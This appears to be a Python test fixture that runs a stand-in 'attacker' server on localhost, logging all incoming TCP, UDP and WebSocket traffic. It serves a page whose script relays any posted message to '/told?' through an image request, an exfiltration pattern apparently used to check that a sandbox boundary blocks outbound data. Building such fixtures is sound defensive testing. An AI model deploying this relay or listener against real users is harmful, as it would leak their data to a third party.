"""The attacker's host: hears every byte that reaches it, over TCP or UDP, and answers as a web server."""

import base64
import hashlib
import re
import socket
import threading
from contextlib import suppress
from typing import Self

_PAGE = b"<script>onmessage = (event) => { new Image().src = '/told?' + event.data; };</script>"
_ANSWER = (
    b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/html\r\n"
    b"Content-Length: %d\r\nConnection: close\r\n\r\n%s" % (len(_PAGE), _PAGE)
)
"""Whatever is asked for: a page that passes on what other pages post to it."""

_SOCKETS = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


def _socket_opened(key: bytes) -> bytes:
    accepted = base64.b64encode(hashlib.sha1(key + _SOCKETS, usedforsecurity=False).digest())
    head = b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    return head + b"Sec-WebSocket-Accept: " + accepted + b"\r\n\r\n"


class Thief:
    """`heard` is all that came in, of every connection and datagram."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._heard = b""
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._server.getsockname()[1]
        self._datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._datagrams.bind(("127.0.0.1", self.port))
        self._threads = [
            threading.Thread(target=listen, daemon=True) for listen in (self._accept, self._receive)
        ]

    def __enter__(self) -> Self:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        with suppress(OSError):
            self._server.shutdown(socket.SHUT_RDWR)
        self._server.close()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
            last.sendto(b"", ("127.0.0.1", self.port))
        for thread in self._threads:
            thread.join()
        self._datagrams.close()

    @property
    def host(self) -> str:
        """`host:port`, as borders and the gate write it."""
        return f"127.0.0.1:{self.port}"

    @property
    def heard(self) -> bytes:
        """Everything so far."""
        with self._lock:
            return self._heard

    def _note(self, data: bytes) -> None:
        with self._lock:
            self._heard += data

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self._server.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client: socket.socket) -> None:
        with client, suppress(OSError):
            client.settimeout(20)
            request = b""
            while b"\r\n\r\n" not in request:
                data = client.recv(65536)
                if not data:
                    return
                self._note(data)
                request += data
            key = re.search(rb"Sec-WebSocket-Key: (\S+)", request)
            client.sendall(_ANSWER if key is None else _socket_opened(key[1]))
            if key is None:
                client.shutdown(socket.SHUT_WR)
            while data := client.recv(65536):
                self._note(data)

    def _receive(self) -> None:
        while data := self._datagrams.recv(65536):
            self._note(data)
